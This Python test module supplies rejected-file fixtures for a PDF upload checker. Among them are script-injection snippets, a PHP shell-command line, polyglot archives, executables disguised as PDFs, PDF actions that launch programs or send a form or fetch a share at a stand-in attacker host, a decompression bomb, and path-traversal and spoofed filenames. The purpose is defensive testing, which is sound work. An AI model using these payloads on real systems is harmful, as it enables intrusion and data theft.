"""Files that are no plain PDF, each with the sentence that refuses it."""

from __future__ import annotations

import io
import zipfile
import zlib

from affiliates.uploads import pdf as checks
from tests.factories.files import PAGES, pdf, stream

MOST = 200_000
SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
OPENS = (b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *PAGES[1:])


def packed(body: bytes, entries: bytes = b"/Filter /FlateDecode") -> bytes:
    """An object within a stream of objects."""
    data = zlib.compress(b"10 0 " + body)
    return stream(data, b"/Type /ObjStm /N 1 /First 5 " + entries)


def zipped() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("invoice.js", "alert(1)")
    return file.getvalue()


def zipped_within() -> bytes:
    """A PDF that is an archive too: its end is the archive's comment."""
    comment = b"\nstartxref\n9\n%%EOF\n"
    archive = zipped()[:-2] + len(comment).to_bytes(2, "little")
    return pdf() + archive + comment


# fmt: off
FILES = {
    "nothing": (b"", checks.EMPTY),
    "one byte": (b"%", checks.NO_PDF),
    "a header alone": (b"%PDF-1.7\n", checks.DAMAGED),
    "zero bytes": (b"\0" * 1000, checks.NO_PDF),
    "a byte too many": (pdf() + b" " * (MOST + 1 - len(pdf())), checks.TOO_LARGE),
    "a page of a browser": (b"<!doctype html><script>alert(1)</script>", checks.NO_PDF),
    "a drawing with a script": (b"<svg onload='alert(1)'/>", checks.NO_PDF),
    "a script": (b"alert(1)//%PDF-1.7", checks.NO_PDF),
    "an archive": (zipped(), checks.NO_PDF),
    "a program": (b"MZ\x90\0" + b"\0" * 100, checks.NO_PDF),
    "a program of Linux": (b"\x7fELF" + pdf(), checks.NO_PDF),
    "a picture": (b"\x89PNG\r\n\x1a\n" + pdf(), checks.NO_PDF),
    "a page before the PDF": (b"<html>" + pdf(), checks.NO_PDF),
    "an empty line before the PDF": (b"\n" + pdf(), checks.NO_PDF),
    "a page after the header": (pdf().replace(b"\n", b"\n<script>alert(1)</script>\n", 1), checks.DAMAGED),
    "PHP after the header": (pdf().replace(b"\n", b"\n<?php system('id') ?>\n", 1), checks.DAMAGED),
    "an archive after the PDF": (pdf() + zipped(), checks.DAMAGED),
    "an archive within the PDF": (zipped_within(), checks.DAMAGED),
    "a page after the PDF": (pdf() + b"<script>alert(1)</script>", checks.DAMAGED),
    "a PDF that was cut off": (pdf()[:-20], checks.DAMAGED),
    "no page": (b"%PDF-1.7\nstartxref\n9\n%%EOF\n", checks.DAMAGED),
    "an unknown version": (pdf().replace(b"%PDF-1", b"%PDF-9"), checks.NO_PDF),
    "a script when it opens": (pdf(SCRIPT, pages=OPENS), checks.ACTS),
    "a script in other letters": (pdf(SCRIPT.replace(b"Java", b"J#61v#61")), checks.ACTS),
    "a script in a packed object": (pdf(packed(SCRIPT)), checks.ACTS),
    "a script in other letters in a packed object": (pdf(packed(SCRIPT.replace(b"S", b"#53"))), checks.ACTS),
    "a packed object behind a false stream": (pdf(b"<< >> % stream\n" + packed(SCRIPT)), checks.ACTS),
    "an object packed twice": (pdf(packed(SCRIPT, b"/Filter [/ASCIIHexDecode /FlateDecode]")), checks.DAMAGED),
    "an object packed in a rare way": (pdf(stream(b"3c3c>", b"/Type /ObjStm /Filter /ASCIIHexDecode")), checks.DAMAGED),
    "a program to start": (pdf(b"<< /S /Launch /F (calc.exe) >>"), checks.ACTS),
    "an attachment": (pdf(stream(b"MZ", b"/Type /EmbeddedFile")), checks.ACTS),
    "a form that sends itself": (pdf(b"<< /S /SubmitForm /F (https://evil.example) >>"), checks.ACTS),
    "another file to open": (pdf(b"<< /S /GoToR /F (\\\\evil.example\\share) >>"), checks.ACTS),
    "a form of XFA": (pdf(b"<< /XFA [(template) 5 0 R] >>"), checks.ACTS),
    "a film": (pdf(b"<< /Subtype /RichMedia >>"), checks.ACTS),
    "a password": (pdf(trailer=b"/Encrypt 9 0 R "), checks.ENCRYPTED),
    "a bomb": (pdf(stream(zlib.compress(b"0" * (checks.MAX_UNPACKED + 1), 9))), checks.TOO_LARGE),
    "very many streams": (pdf(b"stream\n" * checks.MAX_STREAMS), checks.DAMAGED),
}
# fmt: on
NAMES = [
    "invoice.pdf.exe",
    "invoice.exe",
    "invoice.html",
    "invoice",
    ".htaccess",
    "invoice\u202efdp.exe",
    "invoice.pdf\0.exe",
    "../../etc/cron.d/invoice",
    "a" * 5_000,
    f"{'a' * 5_000}.pdf",
]
# Of these the file is a PDF by name: what they are called is never stored.
HARMLESS_NAMES = [
    "../../../static/invoice.pdf",
    "..\\..\\invoice.pdf",
    "/etc/passwd.pdf",
    "invoice\u202eexe.pdf",
    "invoice.exe.pdf",
    '"; filename="evil.html.pdf',
    "<script>alert(1)</script>.pdf",
    f"{'a' * 250}.pdf",
    "INVOICE.PDF",
]
